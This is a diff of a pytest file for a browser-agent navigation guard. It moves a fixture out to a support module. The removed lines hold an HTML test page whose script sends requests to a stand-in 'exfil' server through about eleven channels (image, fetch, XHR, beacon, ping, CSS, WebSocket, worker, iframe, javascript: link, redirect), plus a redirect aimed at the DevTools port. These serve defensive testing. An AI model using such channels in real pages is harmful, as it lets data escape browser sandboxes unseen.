@@ -6,7 +6,7 @@ channel, so each zero is the policy's doing."""
 from __future__ import annotations
 
 import asyncio
-from collections.abc import AsyncIterator, Iterator
+from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
@@ -20,76 +20,8 @@ from linewise.runtime.episode import EpisodeResources, run_episode
 from linewise.runtime.tasks.schema import WebTask
 from linewise.runtime.trace import read_steps
 from linewise.settings import NavigationSettings
+from tests.support.leaky import CHANNELS, leaky_servers  # noqa: F401 (a fixture)
 from tests.support.sites import Site, click, scripted
-
-CHANNELS = ("img", "fetch", "xhr", "beacon", "ping", "css", "ws", "iframe-fetch",
-            "worker-fetch", "sub-redirect", "js-link")
-
-LEAKY = """<html><head><title>t</title>
-<style>body {{ background: url('{exfil}/css'); }}</style></head><body>
-<h1>Leaky</h1><iframe name=sink></iframe>
-<a id=ping href='/landed' target=sink ping='{exfil}/ping'>ping link</a>
-<a id=js href="javascript:fetch('{exfil}/js-link').catch(() => 0)">js link</a>
-<script>
-const settle = (p) => p.then(() => 0, () => 0);
-const img = (src) => new Promise((done) => {{
-  const i = new Image(); i.onload = i.onerror = done; i.src = src; }});
-const xhr = () => new Promise((done) => {{
-  const r = new XMLHttpRequest(); r.onloadend = done; r.open('GET', '{exfil}/xhr');
-  r.send(); }});
-const ws = () => new Promise((done) => {{
-  const s = new WebSocket('{exfil_ws}/ws'); s.onopen = s.onerror = s.onclose = done; }});
-const pristine = () => {{
-  const f = document.createElement('iframe'); document.body.appendChild(f);
-  return settle(f.contentWindow.fetch('{exfil}/iframe-fetch', {{mode: 'no-cors'}})); }};
-const worker = () => new Promise((done) => {{
-  const code = "fetch('{exfil}/worker-fetch', {{mode: 'no-cors'}}).finally(() => "
-             + "postMessage(1))";
-  const w = new Worker(URL.createObjectURL(new Blob([code])));
-  w.onmessage = w.onerror = done; }});
-navigator.sendBeacon('{exfil}/beacon', 'x');
-document.getElementById('ping').click();
-document.getElementById('js').click();
-Promise.all([img('{exfil}/img'), settle(fetch('{exfil}/fetch', {{mode: 'no-cors'}})),
-             xhr(), ws(), pristine(), worker(), img('/hop-to-exfil')])
-  .then(() => settle(fetch('/sync'))).then(() => {{ document.title = 'done'; }});
-</script></body></html>"""
-
-APP = """<html><head><title>t</title></head><body><h1>App</h1><p id=out>waiting</p><script>
-fetch('{api}/data').then((r) => r.text()).then((t) => {{
-  const s = new WebSocket('{api_ws}/echo');
-  s.onopen = () => s.send('ping');
-  s.onmessage = (m) => {{ out.textContent = t + ' ' + m.data; document.title = 'done'; }};
-  s.onerror = () => {{ out.textContent = 'ws failed'; document.title = 'done'; }};
-}}, (e) => {{ out.textContent = 'fetch failed ' + e; document.title = 'done'; }});
-</script></body></html>"""
-
-
-@pytest.fixture
-def servers() -> Iterator[tuple[Site, Site]]:
-    site, exfil = Site(), Site()
-    site.pages = {
-        "/leaky": (200, {}, LEAKY),
-        "/to-leaky": (302, {"Location": "/leaky"}, ""),
-        "/hop-to-exfil": (302, {"Location": "{exfil}/sub-redirect"}, ""),
-        "/hop-to-devtools": (302, {"Location": "{exfil}/json/version"}, ""),
-        "/app": (200, {}, APP),
-        "/to-landed": (302, {"Location": "/landed"}, ""),
-        "/data-popup": (200, {}, "<html><head><title>opener</title></head><body>"
-                        "<button onclick=\"window.open('data:text/html,<p>popup secret</p>')"
-                        "\">data popup</button></body></html>"),
-        "/slow": (200, {}, "<html><head><title>slow</title></head><body><h1>Slow page</h1>"
-                  "</body></html>"),
-    }
-    site.fill = exfil.fill = {
-        "exfil": f"http://127.0.0.1:{exfil.port}", "exfil_ws": f"ws://127.0.0.1:{exfil.port}",
-    }
-    try:
-        yield site, exfil
-    finally:
-        site.close()
-        exfil.close()
-
 
 async def _session(browser: Browser, start: str, **navigation: object
                    ) -> tuple[BrowserSession, NavigationGuard]:
@@ -114,9 +46,9 @@ async def _until_hit(site: Site, paths: tuple[str, ...]) -> None:
 @pytest.mark.parametrize("path", ["/leaky", "/to-leaky"])
 @pytest.mark.parametrize("allowlist", [False, True])
 async def test_no_channel_reaches_another_loopback_port(
-    browser: Browser, servers: tuple[Site, Site], path: str, allowlist: bool
+    browser: Browser, leaky_servers: tuple[Site, Site], path: str, allowlist: bool
 ) -> None:
-    site, exfil = servers
+    site, exfil = leaky_servers
     start = f"http://127.0.0.1:{site.port}/"
     extra = {"allow_domains": (f"127.0.0.1:{site.port}",)} if allowlist else {}
     session, guard = await _session(browser, start, **extra)
@@ -131,11 +63,11 @@ async def test_no_channel_reaches_another_loopback_port(
 
 @pytest.mark.parametrize("path", ["/leaky", "/to-leaky"])
 async def test_the_same_page_reaches_every_channel_with_the_policy_widened(
-    browser: Browser, servers: tuple[Site, Site], path: str
+    browser: Browser, leaky_servers: tuple[Site, Site], path: str
 ) -> None:
     """Whichever way it arrives: nothing else (Chromium's Local Network Access checks on
     a document the guard fulfilled) stands in for the policy."""
-    site, exfil = servers
+    site, exfil = leaky_servers
     start = f"http://127.0.0.1:{site.port}/"
     session, _ = await _session(browser, start, allow_private=True)
     try:
@@ -147,9 +79,9 @@ async def test_the_same_page_reaches_every_channel_with_the_policy_widened(
 
 
 async def test_a_sub_resource_redirect_never_reaches_the_devtools_port(
-    browser: Browser, servers: tuple[Site, Site]
+    browser: Browser, leaky_servers: tuple[Site, Site]
 ) -> None:
-    site, devtools = servers  # the counting server stands in for the DevTools port
+    site, devtools = leaky_servers  # the counting server stands in for the DevTools port
     start = f"http://127.0.0.1:{site.port}/"
     policy = NavigationPolicy.for_task(NavigationSettings(allow_private=True), start,
                                        devtools_port=devtools.port)
@@ -178,9 +110,9 @@ async def echo_server() -> AsyncIterator[int]:
 
 
 async def test_a_local_app_calls_an_api_on_another_allowed_port(
-    browser: Browser, servers: tuple[Site, Site], echo_server: int
+    browser: Browser, leaky_servers: tuple[Site, Site], echo_server: int
 ) -> None:
-    site, api = servers
+    site, api = leaky_servers
     api.pages = {"/data": (200, {"Access-Control-Allow-Origin": "*",
                                  "Content-Type": "text/plain"}, "api answered")}
     site.fill |= {"api": f"http://127.0.0.1:{api.port}", "api_ws": f"ws://127.0.0.1:{echo_server}"}
@@ -195,8 +127,10 @@ async def test_a_local_app_calls_an_api_on_another_allowed_port(
     assert text == "api answered echo ping"
 
 
-async def test_a_public_task_reaches_no_loopback_address(servers: tuple[Site, Site]) -> None:
-    site, exfil = servers
+async def test_a_public_task_reaches_no_loopback_address(
+    leaky_servers: tuple[Site, Site],
+) -> None:
+    site, exfil = leaky_servers
     config = BrowserConfig(extra_args=("--host-resolver-rules=MAP public.test 127.0.0.1",))
     start = f"http://public.test:{site.port}/"
     async with Browser(config) as own:
@@ -210,9 +144,9 @@ async def test_a_public_task_reaches_no_loopback_address(servers: tuple[Site, Si
 
 
 async def test_a_data_url_popup_does_not_end_the_episode(
-    browser: Browser, servers: tuple[Site, Site], tmp_path: Path
+    browser: Browser, leaky_servers: tuple[Site, Site], tmp_path: Path
 ) -> None:
-    site, _ = servers
+    site, _ = leaky_servers
     task = WebTask(id="popup", url=f"http://127.0.0.1:{site.port}/data-popup",
                    goal="Look around.", max_steps=5)
     model = scripted([click("data popup"), "noop(200)", "send_msg_to_user('done')"])
@@ -226,10 +160,10 @@ async def test_a_data_url_popup_does_not_end_the_episode(
 
 
 async def test_a_slow_page_loads_within_the_navigation_timeout(
-    servers: tuple[Site, Site], tmp_path: Path
+    leaky_servers: tuple[Site, Site], tmp_path: Path
 ) -> None:
     """It answers after 1.5 s: past the action timeout, inside the navigation timeout."""
-    site, _ = servers
+    site, _ = leaky_servers
     site.delays = {"/slow": 1.5}
     task = WebTask(id="slow", url=f"http://127.0.0.1:{site.port}/slow", goal="Read it.",
                    max_steps=2)
